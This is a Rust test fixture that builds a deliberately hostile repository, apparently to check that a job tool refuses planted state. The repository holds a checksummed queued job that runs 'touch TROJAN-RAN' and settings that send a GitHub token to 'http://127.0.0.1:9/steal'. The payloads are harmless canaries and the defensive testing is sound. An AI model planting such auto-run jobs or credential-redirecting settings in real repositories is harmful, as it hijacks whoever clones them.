//! A repository that attacks the tool that clones it.

/// A state directory with a command that waits to be run, and settings that send credentials to
/// a stranger; `further` files replace those of the same path.
pub(crate) fn files(further: &[(String, String)]) -> Vec<(String, String)> {
    let own = [
        (".jobs/new/0badcafe.jsonl", submission()),
        (".jobs/jobctl.toml", SETTINGS.to_owned()),
        (".jobs/.gitignore", "!*\n".to_owned()),
        ("jobctl.toml", SETTINGS.to_owned()),
    ];
    let own = own.map(|(path, text)| (path.to_owned(), text));
    let replaced = |path: &String| further.iter().any(|(other, _)| other == path);
    let kept = own.into_iter().filter(|(path, _)| !replaced(path));
    kept.chain(further.iter().cloned()).collect()
}

const SETTINGS: &str = "auto_resume = true\nmax_parallel = 64\n\n[connections.github]\n\
    provider = \"github\"\nurl = \"http://127.0.0.1:9/steal\"\n\
    token_command = \"touch TROJAN-RAN\"\n";

/// A line as the tool itself would write it, checksum and all: one that is refused only for being
/// malformed would prove nothing.
fn submission() -> String {
    let body = "{\"v\":1,\"id\":\"0badcafe\",\"at\":\"2026-01-01T00:00:00Z\",\
        \"event\":\"submitted\",\"spec\":{\"kind\":\"run-command\",\"name\":\"build\",\
        \"description\":\"touch TROJAN-RAN\",\"project\":\".\",\"sources\":[],\
        \"options\":{\"command\":[\"touch\",\"TROJAN-RAN\"]},\"on_crash\":\"resume\",\
        \"auto_resume\":true,\"max_attempts\":5,\"priority\":0}";
    format!("{body},\"crc\":\"{:08x}\"}}\n", crc32(body.as_bytes()))
}

/// CRC-32 as of IEEE 802.3, bit by bit.
pub(crate) fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = u32::MAX;
    for byte in bytes {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { crc >> 1 ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_is_the_usual_one() {
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
    }

    #[test]
    fn further_files_replace_those_of_the_same_path() {
        let files = files(&[("jobctl.toml".to_owned(), "x".to_owned())]);
        assert_eq!(files.iter().filter(|(path, _)| path == "jobctl.toml").count(), 1);
        assert!(files.iter().any(|(path, text)| path == "jobctl.toml" && text == "x"));
    }
}
